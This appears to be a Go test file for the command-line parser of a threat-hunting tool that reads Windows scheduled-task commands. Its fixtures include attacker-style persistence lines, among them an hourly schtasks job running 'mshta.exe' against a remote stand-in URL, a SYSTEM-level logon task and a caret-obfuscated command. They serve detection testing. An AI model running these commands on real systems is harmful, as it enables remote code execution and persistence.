package cmdline_test

import (
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/goshawk-hunt/goshawk/hunt/cmdline"
)

func TestSplit(t *testing.T) {
	for _, tt := range []struct{ in, program, rest string }{
		{`cmd.exe /c dir`, `cmd.exe`, `/c dir`},
		{`"C:\Program Files\A\b.exe" /x`, `C:\Program Files\A\b.exe`, `/x`},
		{`C:\Program Files\A\b.exe /x`, `C:\Program Files\A\b.exe`, `/x`},
		{`%windir%\system32\a b.exe -q`, `%windir%\system32\a b.exe`, `-q`},
		{`C:\odd\noext arg`, `C:\odd\noext`, `arg`},
		{`"unclosed`, `unclosed`, ``},
		{``, ``, ``},
		{`"C:\Windows\system32\cmd.exe"\system32\cleanmgr.exe /d`, `C:\Windows\system32\cmd.exe`, `\system32\cleanmgr.exe /d`},
	} {
		program, rest := cmdline.Split(tt.in)
		if program != tt.program || rest != tt.rest {
			t.Errorf("Split(%q) = %q, %q; want %q, %q", tt.in, program, rest, tt.program, tt.rest)
		}
	}
}

func TestArgs(t *testing.T) {
	got := cmdline.Args(`a "b c" d\"e "f\\" \\s\h`)
	want := []string{"a", "b c", `d"e`, `f\`, `\\s\h`}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestParse(t *testing.T) {
	for _, tt := range []struct {
		in   string
		want cmdline.Request
	}{
		{`"C:\Windows\System32\schtasks.exe" /Create /sc MINUTE /MO 60 /TN Office_ /TR "mshta.exe http://x.example/a.txt" /F `,
			cmdline.Request{Tool: "schtasks", Verb: "create", TaskName: "Office_", Command: "mshta.exe", Arguments: "http://x.example/a.txt", Schedule: "minute 60"}},
		{`cmd /c "schtasks -create -tn up -tr c:\t\a.cmd -sc onlogon -ru system -rl highest"`,
			cmdline.Request{Tool: "schtasks", Verb: "create", TaskName: "up", Command: `c:\t\a.cmd`, RunAs: "system", RunLevel: "HighestAvailable", Schedule: "onlogon"}},
		{`upd.exe -create -tn a -tr "b.exe -c"`, cmdline.Request{Tool: "schtasks", Verb: "create", TaskName: "a", Command: "b.exe", Arguments: "-c"}},
		{`sch^tasks /delete /f /tn "\A\B C"`, cmdline.Request{Tool: "schtasks", Verb: "delete", TaskName: `\A\B C`}},
		{`schtasks.exe /Change /TN x /DISABLE`, cmdline.Request{Tool: "schtasks", Verb: "disable", TaskName: "x"}},
		{`schtasks /create /s \\srv1 /tn j /xml c:\t\j.tmp`, cmdline.Request{Tool: "schtasks", Verb: "create", TaskName: "j", Remote: "srv1", XML: `c:\t\j.tmp`}},
		{`at.exe 13:00 /interactive cmd /c whoami`, cmdline.Request{Tool: "at", Verb: "create", RunAs: "SYSTEM", Schedule: "13:00", Command: "cmd", Arguments: "/c whoami"}},
		{`powershell -c "$a=New-ScheduledTaskAction -Execute 'calc.exe' -Argument '/q'; Register-ScheduledTask -TaskName 'T1' -TaskPath '\A\' -Action $a"`,
			cmdline.Request{Tool: "powershell", Verb: "create", TaskName: `\A\T1`, Command: "calc.exe", Arguments: "/q"}},
	} {
		got, ok := cmdline.Parse(tt.in)
		if !ok {
			t.Errorf("Parse(%q): nothing read", tt.in)
		}
		if d := cmp.Diff(tt.want, got); d != "" {
			t.Errorf("Parse(%q): %s", tt.in, d)
		}
	}
	for _, in := range []string{``, `schtasks`, `notepad schtasks.txt /create`, `tool /create /tn a`, `what at 3`} {
		if r, ok := cmdline.Parse(in); ok {
			t.Errorf("Parse(%q) = %+v, want nothing", in, r)
		}
	}
}

func TestNormalise(t *testing.T) {
	for _, tt := range []struct {
		f        func(string) string
		in, want string
	}{
		{cmdline.Path, `"%LocalAppData%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe"`, `c:\users\<user>\appdata\local\microsoft\onedrive\onedrivestandaloneupdater.exe`},
		{cmdline.Path, `C:\Users\Ann\AppData\Local\X\1.2.3\x.exe`, `c:\users\<user>\appdata\local\x\<ver>\x.exe`},
		{cmdline.Path, `C:\Users\Public\x.exe`, `c:\users\public\x.exe`},
		{cmdline.Path, `\\?\C:\x.exe`, `c:\x.exe`},
		{cmdline.TaskName, `NT TASK\A\b`, `\a\b`},
		{cmdline.TaskName, `OneDrive Task-S-1-5-21-1-2-3-1001`, `\onedrive task-<sid>`},
		{cmdline.ExactTaskName, `up`, `\up`},
		{cmdline.Arguments, `/c   "%windir%\a"  /d`, `/c c:\windows\a /d`},
	} {
		if got := tt.f(tt.in); got != tt.want {
			t.Errorf("%q = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add(`cmd /c "schtasks /create /tn a /tr b"`)
	f.Add(`at 1:00 x`)
	f.Fuzz(func(t *testing.T, s string) {
		cmdline.Parse(s)
		cmdline.Path(s)
		cmdline.Arguments(s)
		cmdline.TaskName(s)
		program, rest := cmdline.Split(s)
		if len(program)+len(rest) > len(s) {
			t.Errorf("Split(%q) returned more than it was given", s)
		}
	})
}
